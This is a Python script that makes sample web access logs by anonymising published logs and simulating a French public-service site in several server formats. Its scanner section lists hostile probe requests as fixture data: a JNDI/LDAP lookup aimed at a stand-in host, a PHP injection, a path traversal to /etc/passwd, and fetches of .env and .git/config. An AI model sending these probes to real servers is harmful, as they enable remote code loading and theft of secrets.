"""Make the sample logs: ``python scripts/make_samples.py``.

Two kinds of samples come out, and both are the same bytes at every run:

* *published* logs, cut short, with the people taken out of them: see `Disguise`;
* logs of a *simulated* public service, one day or two weeks of it, in the formats of several servers: see
  `Service` and the ``render_*`` functions.

The published logs themselves are not part of this repository. ``sample_logs/README.md`` names where each
comes from; without a folder that holds them, only the simulated samples are made.
"""

import argparse
import gzip
import itertools
import json
import lzma
import random
import re
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta
from http import HTTPStatus
from ipaddress import AddressValueError, IPv4Address, IPv4Network
from pathlib import Path
from urllib.parse import quote_plus, unquote
from zoneinfo import ZoneInfo

ROOT = Path(__file__).resolve().parents[1]
PUBLISHED_LOGS = ROOT.parent / "shared" / "logs"
SAMPLES = ROOT / "sample_logs"

DOCUMENTATION = tuple(map(IPv4Network, ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")))  # RFC 5737


def documentation_ipv4() -> Iterator[str]:
    """Yield the 762 documentation addresses, the three networks in turn, so that clients stay spread."""
    for hosts in zip(*(network.hosts() for network in DOCUMENTATION), strict=True):
        yield from map(str, hosts)


def documentation_ipv6() -> Iterator[str]:
    """Yield documentation addresses (RFC 3849), each in a /48 of its own."""
    return (f"2001:db8:{number:x}::1" for number in range(1, 0x10000))


# --- Published logs: the people are taken out ---------------------------------------------------------------

# A four-part number is a version behind a product name (Chrome/32.0.1700.77) or Gecko's rv:, else an address.
ADDRESS = re.compile(
    r'(?P<version>(?:(?<=[\s"(])[A-Za-z_][\w.-]*/|rv:)\d[\d.]*)'
    r"|(?<!\d)(?<!\d\.)(?P<address>\d{1,3}(?:\.\d{1,3}){3})(?!\d)",
    re.ASCII,
)
MAILBOX = re.compile(r"[\w.-][\w.+-]*(?P<at>@|%40|--at--)[\w-]+(?:\.[\w-]+)+", re.ASCII)
PARAMETER = re.compile(r'((?:[?&]|%3F|%26)(?:[^?&=\s"#%]*(?:=|%3D))?)([^?&=\s"#]+?)(?=[&\s"#]|%26|$)', re.IGNORECASE)
NAMED_SECRET = re.compile(
    r"(?:^|[?&]|%3F|%26)(?:appid|bvm|code|docid|ei|email|gs_l|id|key|login|pass(?:word)?|phpsessid"
    r"|s(?:ess)?id|session|sig2?|tbnid|token|usg|usqp|ved)(?:=|%3D)$",
    re.IGNORECASE,
)
TOKEN = re.compile(r"(?=\D*\d)(?=.*[a-z])[\w~:=-]{16,}(?:\.[\w~:=-]{16,})*", re.ASCII | re.IGNORECASE)
# An escape such as \x22 is matched first, lest its last digits be taken for the start of a key.
LONG_KEY = re.compile(r"(?P<escape>\\x[0-9A-F]{2})|[0-9A-Za-z]{40,}")
COOKIE = re.compile(r'"[^"]*"(?=,[^,"]*$)')

# What stands in front of the client, the client, and what follows when no user name is logged.
PLAIN = re.compile(r"()([\w.-]+)( - - \[)", re.ASCII)
WITH_HOST = re.compile(r"(\S+ )([\w.-]+)( - - \[)", re.ASCII)
WITH_COMMAS = re.compile(r"([^,]+,\d+,)([\w.-]+)(,-,-,\[)", re.ASCII)


class Disguise:
    """Replaces the people of one log, each by the same stand-in every time."""

    def __init__(self) -> None:
        self._addresses = itertools.chain(documentation_ipv4(), documentation_ipv6())
        self._hosts = (f"host-{number}.example.net" for number in itertools.count(1))
        self._mailboxes = (f"contact-{number}" for number in itertools.count(1))
        self._stand_ins: dict[str, str] = {}

    def line(self, line: str, shape: re.Pattern[str]) -> str:
        """Return the line without addresses, client names, mailboxes and personal query values.

        Raises:
            ValueError: the line does not begin in this shape. It may hold a user name; nothing is guessed.
        """
        head = shape.match(line)
        if head is None:
            raise ValueError(f"a line does not begin as expected: {line[:60]!r}")
        before, client, after = head.groups()
        rest = LONG_KEY.sub(lambda key: key["escape"] or "x" * len(key[0]), line[head.end() :])
        rest = PARAMETER.sub(blank_personal_value, rest)
        rest = MAILBOX.sub(self._mailbox, rest)
        return before + self._client(client) + after + ADDRESS.sub(self._address_or_version, rest)

    def _client(self, client: str) -> str:
        """Return the stand-in of a client, which is an address or a host name that may spell one."""
        try:
            return self._address(client)
        except AddressValueError:
            return self._stand_in(client, self._hosts)

    def _address(self, text: str) -> str:
        """Return the stand-in of an address; private and loopback ones point at nobody and stay."""
        return self._stand_in(text, self._addresses) if IPv4Address(text).is_global else text

    def _address_or_version(self, match: re.Match[str]) -> str:
        try:
            return match["version"] or self._address(match["address"])
        except AddressValueError:
            return match[0]

    def _mailbox(self, match: re.Match[str]) -> str:
        return self._stand_in(match[0], self._mailboxes) + match["at"] + "example.com"

    def _stand_in(self, original: str, supply: Iterator[str]) -> str:
        if original not in self._stand_ins:
            self._stand_ins[original] = next(supply)
        return self._stand_ins[original]


def blank_personal_value(parameter: re.Match[str]) -> str:
    """Keep a query parameter's name; drop its value when name or value tells of a token or identifier."""
    name, value = parameter.groups()
    personal = NAMED_SECRET.search(name) or TOKEN.fullmatch(unquote(value))
    return name if personal else parameter[0]


@dataclass(frozen=True)
class Published:
    """A sample cut from published logs: the first lines of some files, all of one shape."""

    name: str
    files: tuple[tuple[str, int], ...]
    shape: re.Pattern[str] = PLAIN
    has_cookie: bool = False

    def make(self, logs: Path) -> bytes:
        """Read the files below `logs` and return the sample."""
        disguise = Disguise()
        return b"".join(
            self._disguised(line, disguise).encode("latin-1") + b"\n"
            for file, count in self.files
            for line in itertools.islice(lines_of(logs / file), count)
        )

    def _disguised(self, line: str, disguise: Disguise) -> str:
        return disguise.line(COOKIE.sub('"-"', line) if self.has_cookie else line, self.shape)


def lines_of(file: Path) -> Iterator[str]:
    """Yield the lines of a plain or gzipped file, byte for byte (as Latin-1), a carriage return kept."""
    content = file.read_bytes()
    text = (gzip.decompress(content) if file.suffix == ".gz" else content).decode("latin-1")
    yield from text.removesuffix("\n").split("\n")


PUBLISHED = (
    Published("combined.log.gz", (("elastic-apache-10k/apache_logs.log.gz", 10_000),)),
    Published("common.log", (("databricks/apache.access.log", 500),)),
    Published(
        "vhost_combined.log",
        (
            ("farmfresh-multi/apache_vhost/farmfreshsoftware.access.log", 150),
            ("farmfresh-multi/apache_vhost/farmwork.access.log", 250),
        ),
        shape=WITH_HOST,
    ),
    Published("nginx_main.log", (("lnav/logfile_shop_access_log.0", 500),)),
    Published("nginx_combined.log", (("farmfresh-multi/nginx_combined/meatlabel.app.access.log-20251225", 586),)),
    Published(
        "apache_csv.log",
        (
            ("farmfresh-multi/apache_csv/farmfreshsoftware.access.log-20241210", 150),
            ("farmfresh-multi/apache_csv/farmwork.access.log-20241210", 150),
        ),
        shape=WITH_COMMAS,
        has_cookie=True,
    ),
)


# --- The simulated service: who comes, and what they do -----------------------------------------------------

HOST = "demarches.example.gouv.fr"
PARIS = ZoneInfo("Europe/Paris")
ONE_DAY = (date(2026, 10, 5),)
TWO_WEEKS = tuple(date(2026, 10, 15) + timedelta(days=number) for number in range(14))
# Somebody is awake in each half hour that the night of 25 October has twice (02:00 to 03:00 in Paris).
NIGHT_OF_THE_CLOCK_CHANGE = tuple(
    datetime(2026, 10, 25, 0, 5, tzinfo=UTC) + timedelta(minutes=30 * n) for n in range(4)
)

WEIGHT_OF_HOUR = (2, 1, 1, 1, 1, 2, 5, 12, 28, 40, 44, 38, 26, 34, 42, 40, 34, 28, 22, 20, 18, 16, 10, 5)
SATURDAY = 5
WEEKEND_SHARE = 0.35
IPV6_SHARE = 0.2
PROXIED_SHARE = 0.12
ABANDONED_SHARE = 0.25
CACHED_SHARE = 0.25
STALE_SHARE = 0.2
SLOW_READER_SECONDS = 2_400

SIZE_OF_STATUS = {302: 0, 303: 0, 404: 5_318, 405: 166}
SIZE_OF_FILE = {
    ".pdf": (90_000, 900_000),
    ".json": (3_100, 3_400),
    ".txt": (64, 65),
    ".xml": (2_410, 2_411),
    "/sante": (2, 3),
}
SIZE_OF_PAGE = (7_000, 42_000)

CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0{} Safari/537.36"
SAFARI = "Mozilla/5.0 ({}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6{}"
WINDOWS = "Windows NT 10.0; Win64; x64"
BROWSERS = {
    CHROME.format(WINDOWS, ""): 26,
    CHROME.format(WINDOWS, "") + " Edg/141.0.0.0": 12,
    f"Mozilla/5.0 ({WINDOWS}; rv:144.0) Gecko/20100101 Firefox/144.0": 9,
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0": 3,
    SAFARI.format("Macintosh; Intel Mac OS X 10_15_7", " Safari/605.1.15"): 7,
    SAFARI.format("iPhone; CPU iPhone OS 18_6 like Mac OS X", " Mobile/15E148 Safari/604.1"): 20,
    SAFARI.format("iPad; CPU OS 18_6 like Mac OS X", " Mobile/15E148 Safari/604.1"): 3,
    CHROME.format("Linux; Android 10; K", " Mobile"): 30,
    CHROME.format("Linux; Android 14; SM-X210", ""): 2,  # a tablet: Android without Mobile
}
REFERRERS = {
    "-": 40,
    "https://www.google.com/": 26,
    "https://www.service-public.fr/": 12,
    "https://www.bing.com/": 5,
    "https://duckduckgo.com/": 3,
    "https://www.impots.gouv.fr/": 3,
    "https://chatgpt.com/": 3,
    "https://www.facebook.com/": 2,
    "https://www.mairie.example.org/vos-demarches?page=2": 3,
}
PROCEDURES = {
    "carte-grise": 30,
    "passeport": 26,
    "logement-social": 16,
    "inscription-scolaire": 11,
    "aide-renovation": 6,
}
FORMS = ("cerfa_13750-07", "cerfa_12100-02", "notice-logement-social", "pieces-a-fournir")
SEARCHES = ("carte grise", "passeport enfant", "délai passeport", "marie dupont logement", "dossier n° 48213")
GIVEN_NAMES = ("marie", "ahmed", "lucie", "jean")
FAMILY_NAMES = ("martin", "durand", "petit")
JOURNEYS = {
    "GET / | GET /demarches/{procedure} | GET /demarches/{procedure}/formulaire"
    " | POST /demarches/{procedure}/formulaire | GET /dossier/{number}/confirmation": 30,
    "GET /demarches/{procedure} | GET /documents/{form}.pdf": 18,
    "GET / | GET /recherche?q={search} | GET /demarches/{procedure}": 12,
    "GET /connexion/retour?code={token}&state={state} | GET /mon-compte | GET /dossier/{number}/pieces"
    " | POST /dossier/{number}/pieces | GET /dossier/{number}/pieces": 12,
    "GET /suivi/{uuid}": 8,
    "GET /aide | GET /aide/questions-frequentes | GET /contact": 6,
    "GET /activation/{token} | GET /mon-compte": 4,
    "GET /rendez-vous/{day}?creneau=3 | POST /rendez-vous/{day}": 4,
    "GET /desabonnement/{email}": 2,
    "GET /demarche/ancienne-page | GET /": 3,
    "GET /": 9,
}  # fmt: skip
ASSETS = (
    "/static/app.4f2a9c.css",
    "/static/app.8be1d0.js",
    "/static/Marianne-Regular.woff2",
    "/static/logo.svg",
    "/favicon.ico",
)

PAGES = ("/", "/aide", "/contact", "/plan-du-site", *(f"/demarches/{procedure}" for procedure in PROCEDURES))
CRAWLED = ("/robots.txt", "/sitemap.xml", *PAGES, *(f"/documents/{form}.pdf" for form in FORMS))
COMPATIBLE = "Mozilla/5.0 (compatible; {})"
COMPATIBLE_KHTML = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {})"
ROBOTS = {
    COMPATIBLE.format("Googlebot/2.1; +http://www.google.com/bot.html"): (20, CRAWLED),
    COMPATIBLE.format("bingbot/2.0; +http://www.bing.com/bingbot.htm"): (12, CRAWLED),
    COMPATIBLE.format("AhrefsBot/7.0; +http://ahrefs.com/robot/"): (8, CRAWLED),
    COMPATIBLE_KHTML.format("GPTBot/1.2; +https://openai.com/gptbot"): (10, CRAWLED),
    COMPATIBLE_KHTML.format("ClaudeBot/1.0; +claudebot@example.com"): (9, CRAWLED),
    "CCBot/2.0 (https://commoncrawl.org/faq/)": (4, CRAWLED),
    COMPATIBLE_KHTML.format("ChatGPT-User/1.0; +https://openai.com/bot"): (6, PAGES),
    COMPATIBLE_KHTML.format("Perplexity-User/1.0; +https://perplexity.ai/perplexity-user"): (4, PAGES),
    COMPATIBLE_KHTML.format("MistralAI-User/1.0; +https://docs.mistral.ai/robots"): (3, PAGES),
    "python-requests/2.32.3": (4, ("/api/demarches.json", "/documents/cerfa_13750-07.pdf")),
    "curl/8.14.1": (2, ("/", "/api/demarches.json")),
    "-": (2, PAGES),
}
MONITORS = {
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)": "HEAD /",
    "kube-probe/1.31": "GET /sante",
}
SCANNER = CHROME.format(WINDOWS, "")  # it passes for a person by its name; what it asks for gives it away
UNKNOWN = ("/?x=", "/index.php", "/demarche/", "/.", "/wp-", "/xmlrpc", "/vendor", "/php", "/cgi-bin")
PROBES = (
    "GET /.env", "GET /wp-login.php", "POST /xmlrpc.php", "GET /.git/config", "GET /phpmyadmin/index.php",
    "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "GET /?x=${jndi:ldap://198.51.100.9/a}",
    'GET /index.php?x=<?echo(md5("hi"));?>', "GET /cgi-bin/../../../../etc/passwd", "OPTIONS /", "PROPFIND /",
)  # fmt: skip
GARBAGE = (
    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # a TLS hello on the plain port
    "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=test",  # remote desktop
    "SSH-2.0-Go",
    "",
)


@dataclass(frozen=True)
class Client:
    """Where requests come from: an address, perhaps a chain of proxies, and a program."""

    address: str
    agent: str
    forwarded: str = "-"
    protocol: str = "HTTP/1.1"


@dataclass(frozen=True)
class Hit:
    """One request and its answer; garbage that is no request has no method."""

    time: datetime
    client: Client
    method: str
    target: str
    status: int
    size: int
    referrer: str = "-"
    seconds: float = 0.01

    @property
    def request(self) -> str:
        """The request line as the client sent it."""
        return f"{self.method} {self.target} {self.client.protocol}" if self.method else self.target

    @property
    def local(self) -> datetime:
        """The time on the server's clock."""
        return self.time.astimezone(PARIS)


class Service:
    """A public service in a few days of its life; what happens follows from the seed alone."""

    def __init__(self, seed: int, days: Sequence[date]) -> None:
        self._rng = random.Random(seed)  # noqa: S311  (it must be repeatable, not secret)
        self._days = days
        addresses = list(documentation_ipv4())
        self._rng.shuffle(addresses)
        self._ipv4 = iter(addresses)

    def simulate(self, visits: int, minutes_between_checks: int) -> list[Hit]:
        """Return the hits of people, robots, monitors and scanners in order of time."""
        hits = [
            *self._people(visits),
            *self._robots(visits),
            *self._monitors(timedelta(minutes=minutes_between_checks)),
            *self._scanners(1 + visits // 40),
        ]
        return sorted(hits, key=lambda hit: hit.time)

    def _pick(self, weights: dict[str, int]) -> str:
        return self._rng.choices(list(weights), list(weights.values()))[0]

    def _address(self) -> str:
        if self._rng.random() >= IPV6_SHARE:
            return next(self._ipv4)
        network, subnet, host = (self._rng.randrange(1, 0x10000) for _ in range(3))
        return f"2001:db8:{network:x}:{subnet:x}::{host:x}"

    def _person(self) -> Client:
        """Return somebody with a browser, now and then behind the proxies of an administration."""
        client = Client(
            self._address(),
            self._pick(BROWSERS),
            protocol=self._rng.choice(("HTTP/1.1", "HTTP/2.0", "HTTP/2.0")),
        )
        if self._rng.random() >= PROXIED_SHARE:
            return client
        return Client(next(self._ipv4), client.agent, f"{client.address}, 10.20.0.{self._rng.randrange(1, 255)}")

    def _moment(self) -> datetime:
        """Return a moment of a day, mostly of a working day and in office hours."""
        weights = [WEEKEND_SHARE if day.weekday() >= SATURDAY else 1.0 for day in self._days]
        day = self._rng.choices(self._days, weights)[0]
        hour = self._rng.choices(range(24), WEIGHT_OF_HOUR)[0]
        clock = time(hour, self._rng.randrange(60), self._rng.randrange(60), fold=self._rng.randrange(2))
        return datetime.combine(day, clock, PARIS).astimezone(UTC)

    def _people(self, visits: int) -> Iterator[Hit]:
        people = [self._person() for _ in range(1 + visits * 2 // 3)]
        starts = [start for start in NIGHT_OF_THE_CLOCK_CHANGE if start.date() in self._days]
        starts += [self._moment() for _ in range(visits)]
        for start in starts:
            yield from self._visit(self._rng.choice(people), start)

    def _visit(self, client: Client, moment: datetime) -> Iterator[Hit]:
        """Yield a journey, page by page, and behind the first page what the browser fetches for it."""
        referrer = self._pick(REFERRERS)
        assets_needed = self._rng.random() >= CACHED_SHARE
        for step in self._journey():
            hit = self._answer(moment, client, step, referrer)
            yield hit
            if is_shown(hit):
                referrer = f"https://{HOST}{hit.target}"
                if assets_needed:
                    yield from self._assets(hit, referrer)
                    assets_needed = False
            moment += self._pause(hit.target)

    def _journey(self) -> list[str]:
        """Return the steps of a journey, often given up before its end."""
        steps = self._pick(JOURNEYS).split(" | ")
        if self._rng.random() < ABANDONED_SHARE:
            del steps[self._rng.randrange(1, len(steps) + 1) :]
        names = self._names()
        return [step.format_map(names) for step in steps]

    def _names(self) -> dict[str, str]:
        """Return what one visitor puts in the place of ``{number}`` and the others: mostly identifiers."""
        rng = self._rng
        return {
            "procedure": self._pick(PROCEDURES),
            "form": rng.choice(FORMS),
            "search": quote_plus(rng.choice(SEARCHES)),
            "number": str(rng.randrange(10_000, 99_999)),
            "token": f"{rng.getrandbits(160):040x}",
            "state": f"{rng.getrandbits(96):024x}",
            "uuid": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
            "email": f"{rng.choice(GIVEN_NAMES)}.{rng.choice(FAMILY_NAMES)}@example.org",
            "day": f"2026-11-{rng.randrange(2, 28):02}",
        }

    def _pause(self, target: str) -> timedelta:
        """Return how long a page is looked at: a form takes its time, and a few people come back late."""
        typical = 240 if target.endswith("/formulaire") else 1 if "/retour?" in target else 35
        return timedelta(seconds=round(min(self._rng.lognormvariate(0, 0.8) * typical, SLOW_READER_SECONDS)))

    def _answer(self, moment: datetime, client: Client, request: str, referrer: str = "-") -> Hit:
        method, target = request.split(" ", 1)
        status = status_of(method, target)
        size = 0 if method == "HEAD" else self._size(target, status)
        seconds = round(self._rng.lognormvariate(-3.2, 0.9), 3)
        return Hit(moment, client, method, target, status, size, referrer, seconds)

    def _size(self, target: str, status: int) -> int:
        if status != HTTPStatus.OK:
            return SIZE_OF_STATUS[status]
        sizes = (size for ending, size in SIZE_OF_FILE.items() if target.endswith(ending))
        return self._rng.randrange(*next(sizes, SIZE_OF_PAGE))

    def _assets(self, page: Hit, referrer: str) -> Iterator[Hit]:
        """Yield what a page needs: all of it, or only questions whether the cached copies are still good."""
        is_stale = self._rng.random() < STALE_SHARE
        status = HTTPStatus.NOT_MODIFIED if is_stale else HTTPStatus.OK
        for number, target in enumerate(ASSETS):
            moment = page.time + timedelta(seconds=number // 3)
            size = 0 if is_stale else 2_400 + 17_311 * number
            yield Hit(moment, page.client, "GET", target, status, size, referrer, 0.001)

    def _robots(self, visits: int) -> Iterator[Hit]:
        for agent, (weight, targets) in ROBOTS.items():
            client = Client(self._address(), agent)
            for number in range(1 + weight * visits // 60):
                target = targets[number] if number < len(targets) else self._rng.choice(targets)
                yield self._answer(self._moment(), client, f"GET {target}")

    def _monitors(self, interval: timedelta) -> Iterator[Hit]:
        """Yield checks at a steady pace, which does not know of the clock change."""
        first = datetime.combine(self._days[0], time(), PARIS).astimezone(UTC)
        last = datetime.combine(self._days[-1] + timedelta(days=1), time(), PARIS).astimezone(UTC)
        clients = [(Client(self._address(), agent), request) for agent, request in MONITORS.items()]
        for number in range((last - first) // interval):
            client, request = clients[number % len(clients)]
            yield self._answer(first + number * interval, client, request)

    def _scanners(self, scans: int) -> Iterator[Hit]:
        for _ in range(scans):
            moment = self._moment()
            scanner, stranger = Client(self._address(), SCANNER), Client(self._address(), "-")
            yield Hit(moment, stranger, "", self._rng.choice(GARBAGE), 400, 157)
            for request in self._rng.sample(PROBES, 7):
                moment += timedelta(seconds=self._rng.randrange(3))
                yield self._answer(moment, scanner, request)


def is_shown(hit: Hit) -> bool:
    """Tell whether the browser shows the answer as a page, which is then the referrer of what follows."""
    return hit.method == "GET" and hit.status in {200, 404} and not hit.target.endswith(".pdf")


def status_of(method: str, target: str) -> int:
    """Return what the service answers: it knows its own pages and sends everybody else away."""
    if target.startswith(UNKNOWN):
        return 404
    if method in {"OPTIONS", "PROPFIND"}:
        return 405
    if method == "POST":
        return 303
    return 302 if target.startswith("/connexion/") else 200


# --- Formats ------------------------------------------------------------------------------------------------


def render_nginx_main(hit: Hit, _number: int) -> str:
    """Write nginx's "main", which is combined and ``$http_x_forwarded_for``."""
    request, referrer, agent, forwarded = map(
        nginx_escape, (hit.request, hit.referrer, hit.client.agent, hit.client.forwarded)
    )
    return (
        f"{hit.client.address} - - [{hit.local:%d/%b/%Y:%H:%M:%S %z}]"
        f' "{request}" {hit.status} {hit.size} "{referrer}" "{agent}" "{forwarded}"'
    )


def nginx_escape(text: str) -> str:
    """Write quotes, backslashes and all but printable ASCII as nginx does by default."""
    return "".join(rf"\x{ord(c):02X}" if c in '"\\' or not " " <= c <= "~" else c for c in text)


def render_nginx_json(hit: Hit, _number: int) -> str:
    """Write a ``log_format`` with ``escape=json``, in which a missing header is an empty string."""
    return to_json(
        {
            "time_iso8601": hit.local.isoformat(),
            "remote_addr": hit.client.address,
            "remote_user": "",
            "request": hit.request,
            "status": hit.status,
            "body_bytes_sent": hit.size,
            "http_referer": present(hit.referrer),
            "http_user_agent": present(hit.client.agent),
            "http_x_forwarded_for": present(hit.client.forwarded),
            "request_time": hit.seconds,
            "host": HOST,
        }
    )


def render_caddy(hit: Hit, number: int) -> str:
    """Write the access log of Caddy 2.7 and later: header values are lists, cookies are redacted by Caddy."""
    headers = {
        "User-Agent": [present(hit.client.agent)],
        "Accept-Encoding": ["gzip, deflate, br"],
        "Referer": [present(hit.referrer)],
        "X-Forwarded-For": [present(hit.client.forwarded)],
        "Cookie": ["REDACTED" if "/mon-compte" in hit.target else ""],
    }
    secure = {"resumed": False, "version": 772, "cipher_suite": 4865, "proto": "h2", "server_name": HOST}
    request = {
        "remote_ip": hit.client.address,
        "remote_port": str(port_of(number)),
        "client_ip": present(hit.client.forwarded.split(",")[0]) or hit.client.address,
        "proto": hit.client.protocol,
        "method": hit.method,
        "host": HOST,
        "uri": hit.target,
        "headers": {name: values for name, values in headers.items() if values != [""]},
        "tls": secure,
    }
    return to_json(
        {
            "level": "info" if hit.status < HTTPStatus.INTERNAL_SERVER_ERROR else "error",
            "ts": hit.time.timestamp() + number % 1_000 / 1_000,
            "logger": "http.log.access.log0",
            "msg": "handled request",
            "request": request,
            "bytes_read": 0,
            "user_id": "",
            "duration": hit.seconds,
            "size": hit.size,
            "status": hit.status,
            "resp_headers": {"Server": ["Caddy"], "Content-Type": [content_type_of(hit)]},
        }
    )


def render_traefik(hit: Hit, number: int) -> str:
    """Write the JSON access log of Traefik 3, durations in nanoseconds, with three request headers kept."""
    address = f"[{hit.client.address}]" if ":" in hit.client.address else hit.client.address
    start = f"{hit.time:%Y-%m-%dT%H:%M:%S}.{number:09}Z"
    nanoseconds = round(hit.seconds * 1e9)
    headers = {
        "request_Referer": present(hit.referrer),
        "request_User-Agent": present(hit.client.agent),
        "request_X-Forwarded-For": present(hit.client.forwarded),
    }
    return to_json(
        {
            "ClientAddr": f"{address}:{port_of(number)}",
            "ClientHost": hit.client.address,
            "ClientPort": str(port_of(number)),
            "ClientUsername": "-",
            "DownstreamContentSize": hit.size,
            "DownstreamStatus": hit.status,
            "Duration": nanoseconds + 41_000,
            "OriginContentSize": hit.size,
            "OriginDuration": nanoseconds,
            "OriginStatus": hit.status,
            "Overhead": 41_000,
            "RequestAddr": HOST,
            "RequestContentSize": 0,
            "RequestCount": number + 1,
            "RequestHost": HOST,
            "RequestMethod": hit.method,
            "RequestPath": hit.target,
            "RequestPort": "-",
            "RequestProtocol": hit.client.protocol,
            "RequestScheme": "https",
            "RetryAttempts": 0,
            "RouterName": "demarches@docker",
            "ServiceAddr": "10.0.1.8:8000",
            "ServiceName": "demarches@docker",
            "ServiceURL": "http://10.0.1.8:8000",
            "StartLocal": start,
            "StartUTC": start,
            "TLSCipher": "TLS_AES_128_GCM_SHA256",
            "TLSVersion": "1.3",
            "entryPointName": "websecure",
            "level": "info",
            "msg": "",
            **{name: value for name, value in headers.items() if value},
            "time": f"{hit.time:%Y-%m-%dT%H:%M:%SZ}",
        }
    )


def render_haproxy(hit: Hit, number: int) -> str:
    """Write HAProxy's HTTP log behind a syslog prefix, with captured host, referrer and user agent."""
    local = hit.local
    client = f"{hit.client.address}:{port_of(number)}"
    prefix = f"{local:%b} {local.day:>2} {local:%H:%M:%S} lb1 haproxy[2114]: {client}"
    accepted = f"[{local:%d/%b/%Y:%H:%M:%S}.{number % 1_000:03}] www~"
    if not hit.method:
        answer = f"www~/<NOSRV> -1/-1/-1/-1/0 400 {hit.size} - - PR-- 1/1/0/0/0 0/0 {{||}}"
        return f'{prefix} {accepted} {answer} "<BADREQ>"'
    waited = round(hit.seconds * 1_000)
    headers = (HOST, present(hit.referrer), present(hit.client.agent))
    captured = "{" + "|".join(haproxy_escape(header, '"#{|}') for header in headers) + "}"
    request = haproxy_escape(hit.request, '"#')
    answer = f"demarches/web{1 + number % 2} 0/0/1/{waited}/{waited + 1} {hit.status} {hit.size + 310}"
    return f'{prefix} {accepted} {answer} - - ---- {1 + number % 9}/1/0/0/0 0/0 {captured} "{request}"'


def haproxy_escape(text: str, delimiters: str) -> str:
    """Write delimiters and all but printable ASCII as HAProxy does."""
    return "".join(f"#{ord(c):02X}" if c in delimiters or not " " <= c <= "~" else c for c in text)


def present(text: str) -> str:
    """Return what a JSON log holds for a header: nothing, where a classic log has a dash."""
    return "" if text == "-" else text


def port_of(number: int) -> int:
    """Return a client's port, which differs from line to line and means nothing."""
    return 32_768 + number * 7_919 % 28_000


def content_type_of(hit: Hit) -> str:
    """Return the content type that the service declares."""
    types = {
        "pdf": "application/pdf", "css": "text/css; charset=utf-8", "js": "text/javascript; charset=utf-8",
        "woff2": "font/woff2", "svg": "image/svg+xml", "ico": "image/x-icon", "json": "application/json",
        "txt": "text/plain; charset=utf-8", "xml": "application/xml",
    }  # fmt: skip
    return types.get(hit.target.rpartition(".")[2], "text/html; charset=utf-8")


def to_json(fields: dict[str, object]) -> str:
    """Write one JSON line without blanks, as the servers do."""
    return json.dumps(fields, ensure_ascii=False, separators=(",", ":"))


@dataclass(frozen=True)
class Simulated:
    """A sample of the simulated service in one format."""

    name: str
    render: Callable[[Hit, int], str]
    seed: int
    days: Sequence[date] = ONE_DAY
    visits: int = 33
    minutes_between_checks: int = 60
    logs_garbage: bool = True

    def make(self) -> bytes:
        """Return the sample."""
        hits = Service(self.seed, self.days).simulate(self.visits, self.minutes_between_checks)
        kept = (hit for hit in hits if hit.method or self.logs_garbage)
        text = "".join(f"{self.render(hit, number)}\n" for number, hit in enumerate(kept))
        # All is ASCII but garbage in JSON, whose high bytes nginx copies as they are: not UTF-8, not rare.
        return text.encode("latin-1")


SIMULATED = (
    Simulated(
        "public_service.log.xz",
        render_nginx_main,
        seed=20261025,
        days=TWO_WEEKS,
        visits=500,
        minutes_between_checks=30,
    ),
    # Go's HTTP server answers garbage itself, so it never reaches the logs of Caddy and Traefik.
    Simulated("caddy.jsonl", render_caddy, seed=1, logs_garbage=False),
    Simulated("traefik.jsonl", render_traefik, seed=2, logs_garbage=False),
    Simulated("nginx_json.jsonl", render_nginx_json, seed=3),
    Simulated("haproxy.log", render_haproxy, seed=4),
)


def write(file: Path, content: bytes) -> None:
    """Write a sample, compressed as its name says, without a time stamp in the container."""
    if file.suffix == ".gz":
        content = gzip.compress(content, mtime=0)
    elif file.suffix == ".xz":
        content = lzma.compress(content)
    file.write_bytes(content)
    print(f"{file.name}: {len(content):,} bytes")


def main() -> None:
    """Make all samples, or only the simulated ones where the published logs are not at hand."""
    parser = argparse.ArgumentParser(description="Make the sample logs.")
    parser.add_argument("--published", type=Path, default=PUBLISHED_LOGS, help="folder of the published logs")
    parser.add_argument("--out", type=Path, default=SAMPLES, help="folder to write the samples into")
    options = parser.parse_args()
    for simulated in SIMULATED:
        write(options.out / simulated.name, simulated.make())
    if not options.published.is_dir():
        print(f"no published logs in {options.published}: their samples stay as they are")
        return
    for published in PUBLISHED:
        write(options.out / published.name, published.make(options.published))


if __name__ == "__main__":
    main()
